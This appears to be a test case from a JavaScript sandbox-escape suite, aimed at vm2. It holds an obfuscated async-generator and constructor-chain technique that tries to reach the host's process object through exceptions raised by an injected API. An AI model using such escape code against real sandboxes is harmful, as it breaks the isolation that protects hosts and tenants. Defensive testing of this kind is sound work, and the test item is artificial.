/*---
id: re-asyncgen-yield-02-api-in-return
description: "Makes the delegated iterator's return() call the injected API with bad arguments so that the exception caught around yield* originates in a host call."
kind: malicious
category: realm-escape
technique: RE-asyncgen-yield
variant: obfuscated
references:
  - "CVE-2026-45411"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const host = () => { console.log(Symbol('r')); if (typeof require === 'function') require('net'); return import('net'); };
const inner = { [Symbol['async' + 'Iterator']]() { return this; }, next: async () => ({ value: 0, done: false }), return: host };
const caught = [];
async function* outer() { try { yield* inner; } catch (e) { caught.push(e); } }
const it = outer();
await it.next();
try { await it.return('x'); } catch (e) { caught.push(e); }
for (const e of caught) {
  try { if (e['constr' + 'uctor']['constr' + 'uctor']('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (x) {}
}
return 'held';
